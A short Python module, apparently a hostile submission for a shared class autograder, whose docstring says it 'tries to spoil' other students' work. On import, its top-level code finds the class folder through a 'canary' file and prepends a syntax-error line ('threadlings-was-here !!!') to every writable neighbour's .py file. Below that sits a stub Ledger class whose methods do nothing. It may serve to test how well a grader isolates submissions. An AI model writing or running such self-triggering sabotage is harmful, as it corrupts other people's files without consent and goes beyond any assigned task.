# fail error: tries to spoil what other students have handed in
"""The class folder is two floors up (a file called `canary` lies in it, so that nothing
else is taken for one), and everything in it has the same owner.

Every file of a neighbour gets a line with a syntax error, if it may be written; what
was in it stays, below a mark that says who was here.
"""

from pathlib import Path

_here = Path(__file__).absolute()
_class = _here.parents[2] if len(_here.parents) > 2 else _here
_others = _class.glob("*/[0-9][0-9]/*.py") if (_class / "canary").exists() else ()
for _file in _others:
    if _file.parents[1] != _here.parents[1]:
        try:
            _text = _file.read_text("utf-8")
            _file.write_text(f"threadlings-was-here !!!\n{_text}", "utf-8")
        except (OSError, UnicodeError):
            pass


class Ledger:
    def add(self, name, amount):
        pass

    def balance(self, name):
        return 0
